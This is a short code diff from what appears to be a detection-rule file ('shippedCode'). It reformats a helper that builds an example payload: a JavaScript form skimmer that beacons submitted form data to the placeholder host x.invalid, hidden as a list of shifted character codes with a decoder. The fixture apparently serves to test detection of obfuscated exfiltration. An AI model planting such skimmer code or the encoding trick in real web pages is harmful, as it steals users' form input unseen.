@@ -87,8 +87,9 @@ export const shippedCode: Rule = {
 
 /** An example: the beacon as a list of numbers. */
 function hiddenFooter(): string {
-  const code = "document.addEventListener('submit',e=>navigator.sendBeacon('https://x.invalid/f',new FormData(e.target)))"
-  const numbers = [...code].map(letter => letter.charCodeAt(0) + 1).join(',')
+  const code =
+    "document.addEventListener('submit',e=>navigator.sendBeacon('https://x.invalid/f',new FormData(e.target)))"
+  const numbers = Array.from(code, letter => letter.charCodeAt(0) + 1).join(',')
   return (
     `const table = [${numbers}]\n` +
     "const footer = () => table.map(n => String.fromCharCode(n - 1)).join('')\n" +
